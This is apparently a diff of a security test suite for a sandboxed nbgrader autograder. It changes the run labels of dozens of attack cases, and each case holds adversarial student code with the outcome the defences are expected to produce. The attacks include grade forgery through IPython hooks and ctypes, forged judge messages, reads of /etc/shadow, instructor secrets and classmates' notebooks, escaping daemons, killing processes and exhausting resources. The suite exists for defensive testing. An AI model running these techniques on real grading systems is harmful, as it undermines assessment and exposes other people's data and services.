@@ -71,7 +71,7 @@ GOOD_LOOP = (  # a correct loop under another name, for attacks that need one be
 @dataclass(frozen=True)
 class Attack:
     name: str
-    run: str  # attacks of one run are graded together, in one class
+    run: str  # attacks of one run are graded together, in one class: "class" or "disruptive"
     cells: dict  # answer cell grade id -> code (HONEST stands for the honest answer)
     lost: frozenset  # test cells the attacker must lose, exactly
     expect: str  # the expected outcome, in words
@@ -270,27 +270,27 @@ def _add_graded_cell(nb):
 
 
 HOOKS = [
-    Attack("forges_points", "hooks", {"fit_line": WRONG_FIT}, FIT,
+    Attack("forges_points", "class", {"fit_line": WRONG_FIT}, FIT,
            "the notebook's nbgrader metadata is forged (the test cell unlocked, emptied, worth 100; the "
            "answer cell graded, worth 100): the instructor's cells and points count: fit_line 0, no "
            "score above its maximum", edit=_forge_points),
-    Attack("adds_graded_cell", "hooks", {}, NOTHING,
+    Attack("adds_graded_cell", "class", {}, NOTHING,
            "a graded cell of its own (grade id 'bonus', 50 points, always passes) is ignored: nothing "
            "gained, nothing else lost", edit=_add_graded_cell),
-    Attack("hidden_markers_in_answer", "hooks",
+    Attack("hidden_markers_in_answer", "class",
            {"fit_line": HONEST + "# ### BEGIN HIDDEN TESTS\n", "train_accumulate": HONEST + "# ### END SOLUTION\n"},
            NOTHING, "nbgrader's markers in the student's own answers (an unmatched BEGIN HIDDEN TESTS, "
            "a stray END SOLUTION) change nothing: same points, and feedback is still generated"),
-    Attack("input_transformer_cleanup", "hooks",
+    Attack("input_transformer_cleanup", "class",
            {"train_loop": NEUTER + "get_ipython().input_transformers_cleanup.append(_zz_neuter)\n"
             + WRONG_LOOP},
            LOOP, "an input transformer replaces the train_loop test cell by `pass`: nbgrader's run "
            "passes, but no judge record exists for the cell, so it scores 0"),
-    Attack("input_transformer_post", "hooks",
+    Attack("input_transformer_post", "class",
            {"train_loop": NEUTER + "get_ipython().input_transformers_post.append(_zz_neuter)\n"
             + WRONG_LOOP},
            LOOP, "same through input_transformers_post: no judge record, 0"),
-    Attack("ast_transformer", "hooks",
+    Attack("ast_transformer", "class",
            {"train_loop": '''
 import ast as _zz_ast
 class _ZzDropCheck(_zz_ast.NodeTransformer):
@@ -303,14 +303,14 @@ class _ZzDropCheck(_zz_ast.NodeTransformer):
 get_ipython().ast_transformers.append(_ZzDropCheck())
 ''' + WRONG_LOOP},
            LOOP, "an AST transformer drops the check call from the test cell: no judge record, 0"),
-    Attack("pre_run_cell_rebinds_check", "hooks",
+    Attack("pre_run_cell_rebinds_check", "class",
            {"train_loop": '''
 def _zz_pre_run_cell(*args):
     get_ipython().user_ns["check_train" + "_loop"] = lambda *a, **k: None
 get_ipython().events.register("pre_run_cell", _zz_pre_run_cell)
 ''' + WRONG_LOOP},
            LOOP, "a pre_run_cell event rebinds check_train_loop to a no-op before every cell: 0"),
-    Attack("run_cell_wrapper", "hooks",
+    Attack("run_cell_wrapper", "class",
            {"train_loop": NEUTER + '''
 _zz_shell = get_ipython()
 _zz_plain = (_zz_shell.run_cell, _zz_shell.run_cell_async, _zz_shell.transform_cell)
@@ -333,7 +333,7 @@ _zz_shell.transform_cell = _zz_transform_cell
 ''' + WRONG_LOOP},
            LOOP, "the shell's run_cell/run_cell_async/transform_cell are wrapped to run `pass` "
            "instead of the train_loop test cell: no judge record, 0"),
-    Attack("settrace_skips_failures", "hooks",
+    Attack("settrace_skips_failures", "class",
            {"train_loop": '''
 import linecache as _zz_linecache
 def _zz_local(frame, event, arg):
@@ -359,7 +359,7 @@ _zz_threading.settrace(_zz_global)
 ''' + WRONG_LOOP},
            LOOP, "sys.settrace/threading.settrace jump over every `raise AssertionError` in the "
            "grader's code: the in-kernel check stays silent, the judge still says wrong: 0"),
-    Attack("setprofile_flips_verdicts", "hooks",
+    Attack("setprofile_flips_verdicts", "class",
            {"train_loop": '''
 def _zz_profile(frame, event, arg):
     if event == "return" and ("autograder" in frame.f_code.co_filename or "lessons" in frame.f_code.co_filename):
@@ -374,7 +374,7 @@ _zz_threading.setprofile(_zz_profile)
 ''' + WRONG_LOOP},
            LOOP, "sys.setprofile turns every failing verdict object returned by grader code into a "
            "passing one: only in the kernel; the judge decides: 0"),
-    Attack("showtraceback_hidden", "hooks",
+    Attack("showtraceback_hidden", "class",
            {"train_loop": '''
 _zz_shell = get_ipython()
 _zz_shell.showtraceback = lambda *a, **k: None
@@ -383,11 +383,11 @@ _zz_shell.showsyntaxerror = lambda *a, **k: None
 ''' + WRONG_LOOP},
            LOOP, "errors are never shown, so the failing test cell has no error output (nbgrader "
            "alone would give full marks): the judge recorded a failure: 0"),
-    Attack("custom_exc_swallows", "hooks",
+    Attack("custom_exc_swallows", "class",
            {"train_loop": "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\n"
             + WRONG_LOOP},
            LOOP, "set_custom_exc swallows every exception silently: 0 as above"),
-    Attack("transformer_reads_hidden_key", "hooks",
+    Attack("transformer_reads_hidden_key", "class",
            {"quick_check_answers": WRONG_QUIZ + '''
 import re as _zz_re
 def _zz_key(lines):
@@ -402,12 +402,12 @@ get_ipython().input_transformers_cleanup.append(_zz_key)
            QUIZ, "an input transformer reads the letter in each Quick Check test cell (where the "
            "hidden key lives) and assigns it before the check runs: the values were committed "
            "before the cell was sent, so the wrong answers count: 0 on all four"),
-    Attack("lying_str_answers", "hooks",
+    Attack("lying_str_answers", "class",
            {"quick_check_answers": LIARS + "answer_q1, answer_q2, answer_q3, answer_q4 = (_ZzStr(letter) for letter in %r)\n"
             % (WRONG_LETTERS,)},
            QUIZ, "the answers are a str subclass equal to every letter, each holding a wrong letter: the "
            "judge sees the letters they hold: 0 on all four"),
-    Attack("lying_float_losses", "hooks",
+    Attack("lying_float_losses", "class",
            {"train_loop": LIARS + '''
 def train(model, optimizer, loss_fn, batches):
     losses = []
@@ -421,7 +421,7 @@ def train(model, optimizer, loss_fn, batches):
 '''},
            LOOP, "a correct loop that returns float-subclass losses equal and close to anything "
            "(their real value is 0): the losses are wrong: 0"),
-    Attack("lying_list_losses", "hooks",
+    Attack("lying_list_losses", "class",
            {"train_loop": LIARS + '''
 class _ZzList(list):
     def __init__(self, n):
@@ -443,7 +443,7 @@ def train(model, optimizer, loss_fn, batches):
 '''},
            LOOP, "a correct loop that returns an empty list whose __len__/__iter__/__getitem__ "
            "lie: the losses are missing: 0"),
-    Attack("lying_tensor_predictions", "hooks",
+    Attack("lying_tensor_predictions", "class",
            {"grad_predictions": LIARS + '''
 import torch as _zz_torch
 class _ZzTensor(_zz_torch.Tensor):
@@ -457,7 +457,7 @@ grad_after_one = grad_after_two = grad_after_clear = _zz_torch.tensor(0.0).as_su
 '''},
            PREDICT, "the predictions are tensor subclasses whose __torch_function__ makes item() "
            "return a float equal to anything: the values are 0: 0"),
-    Attack("rebinds_checks_everywhere", "hooks",
+    Attack("rebinds_checks_everywhere", "class",
            {"fit_line": WRONG_FIT + '''
 def _zz_noop(*args, **kwargs):
     return None
@@ -469,7 +469,7 @@ check_fit_line = _zz_noop
 '''},
            FIT, "check_fit_line is rebound to a no-op in the notebook and in every grader "
            "module that has it: no judge record: 0"),
-    Attack("swaps_check_code", "hooks",
+    Attack("swaps_check_code", "class",
            {"train_loop": '''
 import gc as _zz_gc, types as _zz_types
 def _zz_noop(*args, **kwargs):
@@ -483,7 +483,7 @@ for _zz_obj in _zz_gc.get_objects() + [check_train_loop]:
            LOOP, "every function object named check_train_loop (the notebook's, and all that "
            "gc.get_objects finds after gc.unfreeze) gets a no-op __code__: same objects, new "
            "behaviour: no judge record: 0"),
-    Attack("patches_torch_in_c_types", "hooks",
+    Attack("patches_torch_in_c_types", "class",
            {"train_loop": '''
 import ctypes as _zz_ctypes, gc as _zz_gc, torch as _zz_torch
 _zz_torch.allclose = lambda *a, **k: True
@@ -496,7 +496,7 @@ for _zz_cls in (_zz_torch.Tensor, _zz_torch._C.TensorBase):
 ''' + WRONG_LOOP},
            LOOP, "torch.allclose and Tensor.allclose (written into the C type's real dict with "
            "gc.get_referents + PyType_Modified) say True: the judge computes elsewhere: 0"),
-    Attack("poisons_sys_modules", "hooks",
+    Attack("poisons_sys_modules", "class",
            {"fit_line": WRONG_FIT + '''
 import types as _zz_types
 _zz_module_name = check_fit_line.__module__  # wherever the checks live
@@ -509,7 +509,7 @@ check_fit_line = _zz_fake.check_fit_line
 '''},
            FIT, "a fake of the checks' module in sys.modules (so re-importing the checks finds the "
            "no-op too): no judge record: 0"),
-    Attack("profile_patches_only_during_check", "hooks",
+    Attack("profile_patches_only_during_check", "class",
            {"train_loop": '''
 import torch as _zz_torch
 _zz_saved = {}
@@ -538,7 +538,7 @@ _zz_forged = [_zz_json.dumps(m).encode() + b"\\n" for m in (
 '''
 
 JUDGE = [
-    Attack("forges_judge_messages", "judge",
+    Attack("forges_judge_messages", "class",
            {"train_loop": FORGED + '''
 for _zz_fd in _zz_judge_fds():
     try:
@@ -550,7 +550,7 @@ for _zz_fd in _zz_judge_fds():
 ''' + WRONG_LOOP},
            LOOP, "forged JSON 'pass' lines written to the judge connection before the test cell: "
            "the judge accepts only its own protocol, in the cell's window, for checks it ran: 0"),
-    Attack("judge_fd_held_by_thread", "judge",
+    Attack("judge_fd_held_by_thread", "class",
            {"quick_check_answers": HONEST + FORGED + '''
 _zz_kept = [_zz_os.dup(fd) for fd in _zz_judge_fds()]
 def _zz_forger():
@@ -568,7 +568,7 @@ _zz_background(_zz_forger)
 ''', "train_loop": WRONG_LOOP},
            LOOP, "a thread keeps a dup of the judge connection and writes forged passes while the "
            "train_loop test cell runs: 0"),
-    Attack("judge_garbage", "judge",
+    Attack("judge_garbage", "class",
            {"fit_line": WRONG_FIT + '''
 import pickle as _zz_pickle
 class _ZzPayload:
@@ -586,7 +586,7 @@ for _zz_fd in _zz_judge_fds():
            FIT, "garbage, invalid UTF-8, 100 000-deep JSON nesting, a pickle that would create a file "
            "in the course if unpickled, and a 64 MB line: the judge survives, the other students "
            "and the attacker's earlier cells are unaffected, fit_line (wrong) scores 0"),
-    Attack("closes_judge_and_fakes_self_study", "judge",
+    Attack("closes_judge_and_fakes_self_study", "class",
            {"fit_line": WRONG_FIT + '''
 for _zz_fd in _zz_judge_fds():
     try:
@@ -598,7 +598,7 @@ check_fit_line = lambda *a, **k: None
 '''},
            FIT, "closes the judge connection and unsets AUTOGRADER_JUDGE_FD (so a check might fall "
            "back to self-study mode), then rebinds the check: no record means 0"),
-    Attack("replays_judge_traffic", "judge",
+    Attack("replays_judge_traffic", "class",
            {"train_loop": GOOD_LOOP + WRONG_LOOP + '''
 import socket as _zz_socket, contextlib as _zz_contextlib, io as _zz_io
 _zz_state = {"mode": "record", "log": [], "used": set()}
@@ -657,7 +657,7 @@ _zz_state["mode"] = "replay"
            "a correct loop (run in the answer cell) and replays it, message for message, while the "
            "test cell checks the wrong loop: each check gets a fresh scenario from the secret "
            "seed, so the replay does not match: 0"),
-    Attack("gc_finds_judge_connection", "judge",
+    Attack("gc_finds_judge_connection", "class",
            {"train_loop": FORGED + '''
 import gc as _zz_gc, socket as _zz_socket, io as _zz_io
 _zz_fds = set(_zz_judge_fds())
@@ -678,7 +678,7 @@ check_train_loop = lambda *a, **k: None
            LOOP, "gc.get_objects finds the kernel's own socket/file objects of the judge "
            "connection and writes forged reports through them; gc.get_referrers rebinds the check "
            "in every namespace that holds it: 0"),
-    Attack("thread_checks_a_correct_loop", "judge",
+    Attack("thread_checks_a_correct_loop", "class",
            {"train_loop": GOOD_LOOP + WRONG_LOOP + '''
 _zz_check = check_train_loop
 def _zz_racer():
@@ -694,7 +694,7 @@ _zz_background(_zz_racer)
 '''},
            LOOP, "while the test cell checks the wrong `train`, a thread checks a correct loop "
            "in the same window: a pass from another call must not stand in for the failed one: 0"),
-    Attack("thread_reads_test_source", "judge",
+    Attack("thread_reads_test_source", "class",
            {"quick_check_answers": WRONG_QUIZ + '''
 import linecache as _zz_linecache, re as _zz_re
 def _zz_spy():
@@ -715,7 +715,7 @@ _zz_background(_zz_spy)
            QUIZ, "a thread reads each running cell's source from linecache and sets the answer "
            "to the letter it finds there (the hidden key): too late, the values were committed "
            "before the cell was sent: 0 on all four"),
-    Attack("thread_rewrites_answer_key", "judge",
+    Attack("thread_rewrites_answer_key", "class",
            {"quick_check_answers": WRONG_QUIZ + '''
 def _zz_rewriter():
     import time
@@ -735,7 +735,7 @@ _zz_background(_zz_rewriter)
 '''},
            QUIZ, "a thread keeps rewriting every answer-key table it finds in the lesson and "
            "grader modules to 'a': the key is not in the kernel: 0 on all four"),
-    Attack("ctypes_retypes_answers", "judge",
+    Attack("ctypes_retypes_answers", "class",
            {"quick_check_answers": LIARS + '''
 import ctypes as _zz_ctypes
 def _zz_retype(obj, cls):
@@ -747,7 +747,7 @@ answer_q1, answer_q2, answer_q3, answer_q4 = (_zz_retype("".join(["a", str(i)]),
 '''},
            QUIZ, "ctypes writes the type pointer of plain str answers to a lying str subclass "
            "(a memory write no Python check can refuse): the values are 'a0'…'a3': 0 on all four"),
-    Attack("reads_key_from_lessons_package", "judge",
+    Attack("reads_key_from_lessons_package", "class",
            {"quick_check_answers": WRONG_QUIZ + '''
 import importlib as _zz_importlib
 for _zz_module_name in ("lessons.quiz", "lessons", "autograder.checks"):
@@ -782,7 +782,7 @@ def _submitted_fifo(folder, paths) -> None:
 
 
 FILES = [
-    Attack("reads_source_notebook", "files",
+    Attack("reads_source_notebook", "class",
            {"fit_line": HONEST + '''
 try:
     with open(_zz_ROOT + "/source/03_zeroing_grad/03_zeroing_grad.ipynb") as _zz_f:
@@ -793,7 +793,7 @@ except Exception:
     pass
 '''},
            NOTHING, "the instructor's source notebook (solutions, hidden tests) cannot be read"),
-    Attack("walks_up_to_course_config", "files",
+    Attack("walks_up_to_course_config", "class",
            {"fit_line": HONEST + '''
 try:
     _zz_here = _zz_os.getcwd()
@@ -822,7 +822,7 @@ except Exception:
     pass
 '''},
            NOTHING, "walking up from the working folder (and from the parent's cwd) finds no course"),
-    Attack("copies_classmate_answers", "files",
+    Attack("copies_classmate_answers", "class",
            {"train_loop": WRONG_LOOP + '''
 import glob as _zz_glob
 for _zz_path in sorted(_zz_glob.glob(_zz_ROOT + "/submitted/*/03_zeroing_grad/*.ipynb")
@@ -841,7 +841,7 @@ for _zz_path in sorted(_zz_glob.glob(_zz_ROOT + "/submitted/*/03_zeroing_grad/*.
 '''},
            LOOP, "classmates' notebooks (submitted or autograded) cannot be read, so the wrong loop "
            "stays: 0"),
-    Attack("edits_gradebook", "files",
+    Attack("edits_gradebook", "class",
            {"fit_line": WRONG_FIT + '''
 import sqlite3 as _zz_sqlite3
 try:
@@ -855,7 +855,7 @@ except Exception:
 '''},
            FIT, "gradebook.db cannot be opened: no manual scores for itself (fit_line stays 0), "
            "no zeros for the classmates"),
-    Attack("writes_course_root", "files",
+    Attack("writes_course_root", "class",
            {"fit_line": HONEST + '''
 for _zz_path, _zz_text in ((_zz_ROOT + "/zz-attack-" + _zz_NAME + ".txt", _zz_TAG),
                           (_zz_ROOT + "/nbgrader_config.py", "\\n# " + _zz_TAG + "\\n"),
@@ -871,7 +871,7 @@ for _zz_path, _zz_text in ((_zz_ROOT + "/zz-attack-" + _zz_NAME + ".txt", _zz_TA
 '''},
            NOTHING, "no file of the course can be created or changed (course root, nbgrader_config.py, "
            "source/, release/, a classmate's submission)"),
-    Attack("deletes_classmate_folders", "files",
+    Attack("deletes_classmate_folders", "class",
            {"fit_line": HONEST + '''
 import shutil as _zz_shutil
 for _zz_path in (_zz_ROOT + "/submitted/zoe", _zz_ROOT + "/autograded/alice", _zz_ROOT + "/feedback/alice"):
@@ -882,7 +882,7 @@ for _zz_path in (_zz_ROOT + "/submitted/zoe", _zz_ROOT + "/autograded/alice", _z
         pass
 '''},
            NOTHING, "a classmate's submitted, autograded and feedback folders cannot be deleted"),
-    Attack("drops_ipython_startup", "files",
+    Attack("drops_ipython_startup", "class",
            {"fit_line": HONEST + '''
 # (it spares other attackers' kernels, so that their own results stay readable)
 _zz_sabotage = ("import os, torch  # " + _zz_TAG + "\\n"
@@ -916,7 +916,7 @@ for _zz_path in (_zz_os.path.join(_zz_HOME, ".jupyter", "nbgrader_config.py"),
 '''},
            NOTHING, "no IPython startup file (which would break zero_grad in every later kernel, "
            "classmates' included), nor the instructor's nbgrader config or shell profile, can be written"),
-    Attack("writes_import_path", "files",
+    Attack("writes_import_path", "class",
            {"fit_line": HONEST + '''
 import site as _zz_site
 _zz_places = {_zz_SITE}
@@ -937,7 +937,7 @@ for _zz_place in sorted(_zz_places):
 '''},
            NOTHING, "nothing can be put on the import path (a .pth runs in every later Python process "
            "of the instructor), neither site-packages nor the user site"),
-    Attack("edits_lesson_packages", "files",
+    Attack("edits_lesson_packages", "class",
            {"fit_line": HONEST + '''
 import autograder as _zz_autograder, lessons as _zz_lessons
 _zz_dirs = {_zz_os.path.join(_zz_PKG, "autograder"), _zz_os.path.join(_zz_PKG, "lessons"),
@@ -952,7 +952,7 @@ for _zz_dir in sorted(_zz_dirs):
             pass
 '''},
            NOTHING, "the lesson and grader packages on disk are read-only to the kernel"),
-    Attack("submits_symlinks", "files",
+    Attack("submits_symlinks", "class",
            {"fit_line": HONEST + '''
 for _zz_name in ("zz-source.txt", "zz-classmate.txt", "zz-environ.txt"):
     try:
@@ -970,7 +970,7 @@ except Exception:
            NOTHING, "symbolic links in the submitted folder (to the source notebook, a classmate's "
            "notebook, /proc/self/environ, the instructor's HOME) are not followed when the submission "
            "is copied", files=_submitted_links),
-    Attack("reads_instructor_home", "files",
+    Attack("reads_instructor_home", "class",
            {"fit_line": HONEST + '''
 for _zz_top in sorted({_zz_HOME, _zz_os.path.expanduser("~")}):
     try:
@@ -987,7 +987,7 @@ for _zz_top in sorted({_zz_HOME, _zz_os.path.expanduser("~")}):
         pass
 '''},
            NOTHING, "the instructor's HOME (.pgpass, configs) cannot be read"),
-    Attack("writes_shared_tmp", "files",
+    Attack("writes_shared_tmp", "class",
            {"fit_line": HONEST + '''
 for _zz_place in ("/dev/shm", "/tmp", "/var/tmp"):
     try:
@@ -998,10 +998,10 @@ for _zz_place in ("/dev/shm", "/tmp", "/var/tmp"):
 '''},
            NOTHING, "files written to /dev/shm, /tmp and /var/tmp stay in the kernel's own namespace: "
            "nothing appears in the machine's (a channel to other kernels, or a file that outlives grading)"),
-    Attack("prints_environment", "files",
+    Attack("prints_environment", "class",
            {"fit_line": HONEST + "print(dict(_zz_os.environ))\n"},
            NOTHING, "the kernel's environment holds none of the instructor's variables"),
-    Attack("reads_proc_environ_cmdline", "files",
+    Attack("reads_proc_environ_cmdline", "class",
            {"fit_line": HONEST + '''
 _zz_seen = []
 _zz_mine = {str(p) for p in _zz_ours(with_harness=True)}  # print only the grading run's, not the machine's
@@ -1028,7 +1028,7 @@ elif len(_zz_others) > 3:
 ]
 
 PROCESSES = [
-    Attack("survivor_os_fork", "processes",
+    Attack("survivor_os_fork", "class",
            {"fit_line": HONEST + '''
 try:
     _zz_pid = _zz_os.fork()
@@ -1043,7 +1043,7 @@ except Exception:
     pass
 '''},
            NOTHING, "os.fork + setsid + exec: the child dies with the kernel (or cannot be made)"),
-    Attack("survivor_subprocess", "processes",
+    Attack("survivor_subprocess", "class",
            {"fit_line": HONEST + '''
 try:
     import subprocess as _zz_subprocess
@@ -1054,7 +1054,7 @@ except Exception:
     pass
 '''},
            NOTHING, "subprocess.Popen(start_new_session=True): dies with the kernel (or cannot start)"),
-    Attack("survivor_multiprocessing", "processes",
+    Attack("survivor_multiprocessing", "class",
            {"fit_line": HONEST + '''
 try:
     import multiprocessing as _zz_mp, time as _zz_time
@@ -1067,7 +1067,7 @@ except Exception:
            NOTHING, "a multiprocessing 'spawn' child (started through _posixsubprocess, which no "
            "audit hook sees): dies with the kernel",
            marks=("multiprocessing",)),
-    Attack("survivor_ctypes_fork", "processes",
+    Attack("survivor_ctypes_fork", "class",
            {"fit_line": HONEST + '''
 try:
     _zz_c = _zz_libc()
@@ -1085,7 +1085,7 @@ except Exception:
 '''},
            NOTHING, "a daemon made with libc's fork/setsid/fork through ctypes (no Python audit "
            "event): dies with the kernel"),
-    Attack("survivor_ctypes_system", "processes",
+    Attack("survivor_ctypes_system", "class",
            {"fit_line": HONEST + '''
 try:
     import shlex as _zz_shlex
@@ -1095,7 +1095,7 @@ except Exception:
     pass
 '''},
            NOTHING, "a background shell started with libc's system() through ctypes: dies with the kernel"),
-    Attack("daemon_edits_gradebook_later", "processes",
+    Attack("daemon_edits_gradebook_later", "class",
            {"fit_line": WRONG_FIT + '''
 _zz_daemon = """
 import sqlite3, sys, time
@@ -1123,7 +1123,7 @@ except Exception:
 '''},
            FIT, "a daemon (libc system) that keeps setting its own manual scores to full marks "
            "until grading ends: it dies with the kernel and cannot open the gradebook: fit_line 0"),
-    Attack("tcp_to_postgres", "processes",
+    Attack("tcp_to_postgres", "class",
            {"fit_line": HONEST + '''
 import socket as _zz_socket
 for _zz_port in (5432,):
@@ -1134,7 +1134,7 @@ for _zz_port in (5432,):
         pass
 '''},
            NOTHING, "no TCP connection to the machine's loopback (PostgreSQL listens on 5432)"),
-    Attack("tcp_via_ctypes", "processes",
+    Attack("tcp_via_ctypes", "class",
            {"fit_line": HONEST + '''
 try:
     import ctypes as _zz_ctypes, struct as _zz_struct, socket as _zz_socket
@@ -1150,7 +1150,7 @@ except Exception:
 '''},
            NOTHING, "no TCP connection even through libc's socket/connect (bypassing Python's "
            "audit hooks)"),
-    Attack("unix_socket_postgres", "processes",
+    Attack("unix_socket_postgres", "class",
            {"fit_line": HONEST + '''
 import socket as _zz_socket, struct as _zz_struct
 try:
@@ -1166,7 +1166,7 @@ except Exception:
     pass
 '''},
            NOTHING, "no new unix-socket connection to PostgreSQL's socket"),
-    Attack("unix_sockets_of_the_instructor", "processes",
+    Attack("unix_sockets_of_the_instructor", "class",
            {"fit_line": HONEST + '''
 import socket as _zz_socket, stat as _zz_stat, tempfile as _zz_tempfile
 _zz_targets = ["\\x00zz-instructor-" + _zz_MARKER]
@@ -1192,7 +1192,7 @@ for _zz_target in _zz_targets:
 '''},
            NOTHING, "no connection to the instructor's own unix sockets (one in HOME, one abstract: "
            "the test listens on both)"),
-    Attack("fork_server_escape", "processes",
+    Attack("fork_server_escape", "class",
            {"fit_line": HONEST + '''
 import socket as _zz_socket, stat as _zz_stat, tempfile as _zz_tempfile
 _zz_escape = ("open(%r, 'w').write(%r)" % (_zz_ROOT + "/zz-escaped-" + _zz_NAME, _zz_TAG))
@@ -1226,7 +1226,7 @@ for _zz_path in sorted(_zz_socks):
 '''},
            NOTHING, "the grader's own sockets (the fork server's) cannot be reached, so no request "
            "for an unsandboxed process that writes into the course"),
-    Attack("reads_grader_memory", "processes",
+    Attack("reads_grader_memory", "class",
            {"fit_line": HONEST + '''
 import re as _zz_re
 for _zz_pid in sorted(_zz_ours(with_harness=True)):  # its parent is one of them, if visible
@@ -1246,7 +1246,7 @@ for _zz_pid in sorted(_zz_ours(with_harness=True)):  # its parent is one of them
 '''},
            NOTHING, "the memory of the grader's processes (/proc/<pid>/mem: the fork server, the "
            "workers) is out of reach, so no secret is read from it"),
-    Attack("hijacks_classmate_kernels", "processes",
+    Attack("hijacks_classmate_kernels", "class",
            {"quick_check_answers": HONEST + '''
 def _zz_hijack():
     import glob, time
@@ -1289,7 +1289,7 @@ _zz_background(_zz_hijack)
            NOTHING, "other kernels' connection files cannot be read and their ports cannot be reached "
            "(ZeroMQ connects from C, past any Python audit hook), so no code runs in a classmate's kernel",
            student_id="yves"),  # graded after carol, beside zoe
-    Attack("eats_memory", "processes",
+    Attack("eats_memory", "class",
            {"fit_line": HONEST + '''
 _zz_hoard = []
 try:
@@ -1303,7 +1303,7 @@ del _zz_hoard
 '''},
            NOTHING, "memory is capped below 3 GB (a MemoryError the attack catches), nobody else "
            "suffers"),
-    Attack("burns_cpu", "processes",
+    Attack("burns_cpu", "class",
            {"quick_check_answers": HONEST + '''
 import hashlib as _zz_hashlib, time as _zz_time
 def _zz_burn():
@@ -1444,7 +1444,7 @@ while True:
 ]
 
 KILL = [
-    Attack("kills_grading_processes", "kill",
+    Attack("kills_grading_processes", "disruptive",
            {"quick_check_answers": HONEST + '''
 import signal as _zz_signal
 _zz_killed = 0
@@ -1459,7 +1459,7 @@ if _zz_killed:
 '''},
            NOTHING, "SIGKILL to every process of the grading run it can see (stand-in for kill(-1)): "
            "it sees none; grading completes"),
-    Attack("crashes_fork_server", "kill",
+    Attack("crashes_fork_server", "disruptive",
            {"quick_check_answers": HONEST + '''
 import socket as _zz_socket, stat as _zz_stat, tempfile as _zz_tempfile
 _zz_socks = {_zz_os.environ.get("AUTOGRADER_FORKSERVER", "")}
@@ -1509,15 +1509,15 @@ for _zz_attr in list(globals()):
 BEACON = "//zz-attacker.invalid/"  # where a live script or markup would send its request
 
 PARTIAL_CREDIT = [
-    Attack("partial_credit_true", "hooks", {"train_loop": WRONG_LOOP + "_zz_SHOWN = True\n" + REBIND},
+    Attack("partial_credit_true", "class", {"train_loop": WRONG_LOOP + "_zz_SHOWN = True\n" + REBIND},
            AFTER_LOOP, "every check_* name in the notebook and the grader's modules returns True, so each "
            "later test cell shows `True` as its result (nbgrader reads a result it cannot read as a "
            "number as full credit): the judge has no record of those cells: 0 on all four"),
-    Attack("partial_credit_number", "hooks", {"dead_parameters": WRONG_DEAD + "_zz_SHOWN = 2.0\n" + REBIND},
+    Attack("partial_credit_number", "class", {"dead_parameters": WRONG_DEAD + "_zz_SHOWN = 2.0\n" + REBIND},
            DEAD, "the checks return 2.0, the cell's full points, as a partial-credit result: 0"),
-    Attack("partial_credit_huge", "hooks", {"dead_parameters": WRONG_DEAD + "_zz_SHOWN = 1e9\n" + REBIND},
+    Attack("partial_credit_huge", "class", {"dead_parameters": WRONG_DEAD + "_zz_SHOWN = 1e9\n" + REBIND},
            DEAD, "the checks return 1e9 as a partial-credit result: 0"),
-    Attack("partial_credit_appended", "hooks",
+    Attack("partial_credit_appended", "class",
            {"train_loop": WRONG_LOOP + '''
 def _zz_append_score(lines):
     source = "".join(lines)
@@ -1576,11 +1576,11 @@ def _edit_markdown(nb):
 
 
 LIVE_MARKUP = [
-    Attack("displays_script", "files", {"fit_line": HONEST + SCRIPT_OUTPUTS},
+    Attack("displays_script", "class", {"fit_line": HONEST + SCRIPT_OUTPUTS},
            NOTHING, "HTML with script and event handlers, JavaScript, SVG, LaTeX and Markdown with "
            "javascript: links, an iframe, forged image data and size, <base>/<meta>/CSS url(), a widget: none "
            "of it is live in the feedback page or the autograded notebook formgrader renders"),
-    Attack("writes_markup_in_markdown", "files", {}, NOTHING,
+    Attack("writes_markup_in_markdown", "class", {}, NOTHING,
            "script, event handlers, javascript: links, remote images, MathJax \\href and an iframe in a "
            "locked markdown cell it rewrote, in markdown and raw cells of its own, and in forged widget "
            "state: the locked cell comes back as the instructor wrote it, the student's own cells show "
@@ -1610,18 +1610,18 @@ def _language_is_not_a_string(nb):
 
 
 METADATA = [
-    Attack("language_is_a_path", "files", {"quick_check_answers": WRONG_QUIZ}, QUIZ,
+    Attack("language_is_a_path", "class", {"quick_check_answers": WRONG_QUIZ}, QUIZ,
            "the notebook's language is the path of a .toml it submitted, with 3 MB format widths: the "
            "language is one of the course's codes or English, so the grader's own messages are used and "
            "what comes back stays small; its wrong answers cost their points",
            files=_language_is_a_path),
-    Attack("language_is_not_a_string", "files", {}, NOTHING,
+    Attack("language_is_not_a_string", "class", {}, NOTHING,
            "a language that is a dict holding a format, forged verdicts and HTML tags in cell metadata: "
            "English, and the forged metadata is gone", edit=_language_is_not_a_string),
 ]
 
 ENVIRONMENT = [
-    Attack("reads_its_environment_block", "files",
+    Attack("reads_its_environment_block", "class",
            {"fit_line": HONEST + '''
 for _zz_what in ("environ", "cmdline", "auxv"):
     try:
@@ -1632,7 +1632,7 @@ for _zz_what in ("environ", "cmdline", "auxv"):
 '''},
            NOTHING, "/proc/self/environ, cmdline and auxv (the exec-time block, inherited from the fork "
            "server) hold nothing of the instructor's environment"),
-    Attack("scans_its_memory", "files",
+    Attack("scans_its_memory", "class",
            {"fit_line": HONEST + '''
 import re as _zz_re
 _zz_seen, _zz_others = set(), set()
@@ -1662,7 +1662,7 @@ if _zz_others:
 '''},
            NOTHING, "the kernel's own memory (inherited from the fork server) holds no secret of the "
            "instructor's, no hidden test and no other student's folder name"),
-    Attack("reads_the_exchange", "files",
+    Attack("reads_the_exchange", "class",
            {"fit_line": HONEST + '''
 for _zz_top in ("/usr/local/share/nbgrader/exchange", "/srv/nbgrader/exchange"):
     try:
@@ -1677,7 +1677,7 @@ for _zz_top in ("/usr/local/share/nbgrader/exchange", "/srv/nbgrader/exchange"):
         pass
 '''},
            NOTHING, "nbgrader's exchange (every student's submissions and feedback) cannot be read"),
-    Attack("lists_the_system", "files",
+    Attack("lists_the_system", "class",
            {"fit_line": HONEST + '''
 for _zz_top in ("/usr", "/usr/local", "/usr/share", "/etc", "/home", "/root", "/var", "/opt", "/srv", "/"):
     try:
@@ -1697,7 +1697,7 @@ for _zz_file in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/ssh/ssh_co
 ]
 
 LIMITS = [
-    Attack("memfd_pins_memory", "processes",
+    Attack("memfd_pins_memory", "class",
            {"fit_line": HONEST + '''
 _zz_pinned = 0
 try:
@@ -1712,7 +1712,7 @@ if _zz_pinned >= 2 * 2**30:
 '''},
            NOTHING, "memfd_create + posix_fallocate cannot pin 2.4 GB past the memory limit (memory no "
            "process's size shows)"),
-    Attack("memfd_through_ctypes", "processes",
+    Attack("memfd_through_ctypes", "class",
            {"fit_line": HONEST + '''
